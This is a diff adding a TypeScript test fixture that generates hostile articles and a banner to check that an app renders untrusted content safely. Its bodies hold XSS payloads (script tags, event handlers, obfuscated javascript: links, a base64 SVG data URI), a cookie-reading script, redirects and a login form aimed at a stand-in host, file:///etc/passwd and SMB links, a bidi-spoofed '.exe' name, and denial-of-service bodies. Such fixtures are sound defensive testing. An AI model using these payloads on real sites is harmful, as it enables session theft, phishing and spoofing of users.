@@ -1,0 +1,70 @@
+import type { Article, Banner, BannerType, Section } from './article.ts';
+
+/** Characters of one oversized body. */
+const OVERSIZED = 600_000;
+/** Depth of one body of nested elements. */
+const NESTED = 5_000;
+/** Text that turns its direction: the end of the name seems to be another one. */
+const BIDI = 'Statement \u202Efdp.exe\u202C \u2066of the month\u2069';
+const REMOTE = 'https://tracker.invalid';
+const FIRST_ID = 9001;
+
+/** Bodies somebody could send to harm a reader: what each tries is its name. */
+const bodies: Readonly<Record<string, string>> = {
+  script:
+    '<p>Rates</p><script>window.opened = document.cookie</script><p onclick="alert(1)" onmouseover=alert(2)>Touch me</p>',
+  'meta refresh': `<meta http-equiv="refresh" content="0;url=${REMOTE}/login"><base href="${REMOTE}/"><p>One moment</p>`,
+  'remote style': `<link rel="stylesheet" href="${REMOTE}/a.css"><style>@import url(${REMOTE}/b.css); body{background:url(${REMOTE}/c.png)}</style><p style="position:fixed;inset:0;background:url(${REMOTE}/d.png)">Cover</p>`,
+  'remote picture': `<p><img src="${REMOTE}/pixel.gif" onerror="alert(1)"><img src="//tracker.invalid/two.gif"></p>`,
+  srcset: `<picture><source srcset="${REMOTE}/wide.webp 2x"><img srcset="${REMOTE}/a.png 1x, ${REMOTE}/b.png 2x" alt="chart"></picture>`,
+  'script link':
+    '<p><a href="javascript:alert(document.domain)">Open your position</a> <a href="java\tscript:alert(1)">or here</a> <a href="&#106;avascript:alert(1)">or there</a></p>',
+  'file link':
+    '<p><a href="smb://tracker.invalid/share">Report</a> <a href="file:///etc/passwd">Figures</a> <img src="\\\\tracker.invalid\\share\\x.png"></p>',
+  drawing:
+    '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script><a xlink:href="javascript:alert(3)"><text>Buy</text></a><foreignObject><iframe src="https://tracker.invalid"></iframe></foreignObject></svg>',
+  frames: `<iframe src="${REMOTE}"></iframe><object data="${REMOTE}/a.swf"></object><embed src="${REMOTE}/b"><form action="${REMOTE}/take"><input name="secret"><button>Log in</button></form>`,
+  bidi: `<p>${BIDI}</p><p>pay to \u200Bpay\u200Bto.invalid</p>`,
+  'data address':
+    '<p><a href="data:text/html,<script>alert(1)</script>">Table</a><img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+"></p>',
+  broken: '<p><b>Never closed <i>at all <!-- and a comment <a href="x" title="><script>alert(1)</script>',
+  nested: '<div>'.repeat(NESTED) + 'deep' + '</div>'.repeat(NESTED),
+  oversized: `<p>${'All of it. '.repeat(OVERSIZED / 11)}</p>`,
+};
+
+/** Articles of a section that try to harm whoever shows them: one for each way, told while control has them sent (R37). */
+export function hostileArticles(section: Section, now: number): Article[] {
+  return Object.entries(bodies).map(([what, body], at) => ({
+    section,
+    id: FIRST_ID + at,
+    documentId: `hostile-${what.replaceAll(' ', '-')}`,
+    v4Id: null,
+    title: what === 'bidi' ? BIDI : `<b>Hostile</b> ${what}`,
+    summary: `<img src="${REMOTE}/summary.gif"> ${what}`,
+    contentKey: null,
+    category: 'Hostile',
+    time: now - (at + 1) * 1000,
+    priority: 9,
+    level: section === 'learn' ? 'Beginner' : null,
+    tags: ['<script>alert(1)</script>', 'Hostile'],
+    coins: ['BTC'],
+    picture: { url: what === 'file link' ? 'smb://tracker.invalid/x.png' : `${REMOTE}/thumb.png`, name: 'x.png' },
+    source: 'javascript:alert(4)',
+    body,
+  }));
+}
+
+/** A banner whose words, link and picture try the same. */
+export function hostileBanner(type: BannerType, now: number): Banner {
+  return {
+    id: FIRST_ID,
+    documentId: 'hostile-banner',
+    type,
+    title: BIDI,
+    description: '<script>alert(1)</script>You have won',
+    cta: '<b>Claim</b>',
+    link: 'javascript:alert(5)',
+    picture: { url: 'smb://tracker.invalid/banner.png', name: 'banner.png' },
+    time: now,
+  };
+}
